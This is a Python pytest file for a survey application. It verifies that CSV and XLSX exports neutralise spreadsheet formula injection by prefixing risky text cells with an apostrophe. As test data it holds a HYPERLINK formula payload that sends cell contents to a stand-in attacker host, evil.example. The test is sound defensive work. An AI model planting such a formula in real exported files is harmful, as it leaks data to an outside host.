"""No text the product writes to a CSV or XLSX file runs as a formula (issue 14, item 4).

OWASP's rule: a text cell starting with = + - @ tab or CR is written with a leading apostrophe;
numbers (negative ones too) stay numbers; XLSX texts are stored as texts, never formulas.
The files are read back with the csv module and openpyxl, as a spreadsheet program would.
"""

from __future__ import annotations

import csv
import io

import openpyxl
import pytest
from sqlalchemy import select

from surveyapp.extensions import db
from surveyapp.reports.cells import neutral

ATTACK = '=HYPERLINK("http://evil.example/?"&A1,"点击")'
TEXTS = [ATTACK, "+1+2", "-2+3", "@SUM(A1)", "\tcmd", "\rcmd", "plain", "", "3-1", "'quoted"]


@pytest.mark.parametrize("text", TEXTS)
def test_the_rule(text):
    expected = "'" + text if text[:1] in ("=", "+", "-", "@", "\t", "\r") else text
    assert neutral(text) == expected
    for number in (-1, -1.5, 0, 2.25, None, True):
        assert neutral(number) is number


def _csv_cells(data: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"))))


def _xlsx_cells(data: bytes) -> list:
    book = openpyxl.load_workbook(io.BytesIO(data))
    return [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]


def _assert_csv_safe(data: bytes) -> None:
    for row in _csv_cells(data):
        for cell in row:
            if cell[:1] in ("=", "+", "@", "\t", "\r"):
                raise AssertionError(f"formula-like CSV cell {cell!r} in {row}")
            if cell[:1] == "-":
                float(cell)  # a negative number is fine, a text is not


def _assert_xlsx_safe(data: bytes) -> None:
    for cell in _xlsx_cells(data):
        assert cell.data_type != "f", (cell.coordinate, cell.value)
        if isinstance(cell.value, str):
            assert not cell.value.startswith(("=", "+", "-", "@", "\t", "\r")), cell.value


def test_exports_keep_numbers_and_neutralise_texts():
    from surveyapp.services.exports import Table, to_csv, to_xlsx

    table = Table(
        columns=["name", "value", ATTACK],
        rows=[[ATTACK, -1.5], ["-3", -2], ["@x", 4.0]],
        labels={"name": ATTACK},
        value_labels={"name": {1: "=1+1"}},
        about=[("note", "+danger")],
    )
    rows = _csv_cells(to_csv(table))
    assert rows[0][2] == "'" + ATTACK
    assert rows[1] == ["'" + ATTACK, "-1.5"]
    assert rows[2] == ["'-3", "-2"]
    assert rows[3] == ["'@x", "4"]
    data = to_xlsx(table, "data")
    _assert_xlsx_safe(data)
    sheet = openpyxl.load_workbook(io.BytesIO(data))["data"]
    assert sheet["A2"].value == "'" + ATTACK and sheet["B2"].value == -1.5
    assert sheet["B3"].value == -2 and sheet["B3"].data_type == "n"


def test_a_failed_login_name_reaches_the_audit_csv_as_text(demo, client, auth):
    client.post("/auth/login", data={"username": ATTACK, "password": "x"})
    auth.login("admin", "admin-demo-2026")
    data = client.get("/admin/audit.csv").get_data()
    _assert_csv_safe(data)
    assert any("'" + ATTACK in row for row in _csv_cells(data))


def test_locality_names_and_labels_reach_the_officials_files_as_text(demo):
    """A locality named like a formula, through the estimates table and the responses export
    in both formats."""
    from surveyapp.models import Locality, Survey
    from surveyapp.services.exports import export_estimates, export_responses
    from surveyapp.services.reports import report_bundle

    with demo.app_context():
        for locality in db.session.scalars(select(Locality).where(Locality.level == "street")):
            locality.name_zh = ATTACK
            locality.name_en = "-" + locality.name_en
        db.session.commit()
        survey = db.session.scalar(select(Survey).order_by(Survey.id))
        wave = survey.waves[-1]
        bundle = report_bundle(survey, wave)
        for lang in ("zh_CN", "en"):
            _assert_csv_safe(export_estimates(bundle, "csv", lang))
            data = export_estimates(bundle, "xlsx", lang)
            _assert_xlsx_safe(data)
        _assert_csv_safe(export_responses(survey, "csv", wave=wave))
        _assert_xlsx_safe(export_responses(survey, "xlsx", wave=wave))
        texts = [c.value for c in _xlsx_cells(export_estimates(bundle, "xlsx", "zh_CN"))]
        assert "'" + ATTACK in texts


#: Writers that produce no file for people: the localities workbook converted to the CSV the
#: importer reads, the demo's input data, the estimation core (its command passes neutral).
NOT_FOR_PEOPLE = {
    "surveyapp/services/localities.py",
    "surveyapp/services/safety_index_demo.py",
    "surveyapp/estimation/tabular.py",
    "surveyapp/reports/cells.py",
}


def test_every_writer_goes_through_the_cells_rule():
    import re
    from pathlib import Path

    root = Path(__file__).resolve().parents[2]
    offenders = []
    for path in sorted((root / "surveyapp").rglob("*.py")):
        name = path.relative_to(root).as_posix()
        text = path.read_text(encoding="utf-8")
        if name in NOT_FOR_PEOPLE:
            continue
        if re.search(r"csv\.(writer|DictWriter)\(|\.to_csv\(|\.to_excel\(", text):
            offenders.append(name)
        if re.search(r"Workbook\(", text) and "append_row" not in text and "_append(" not in text:
            offenders.append(name)
    assert not offenders, f"write CSV/XLSX through surveyapp.reports.cells: {offenders}"
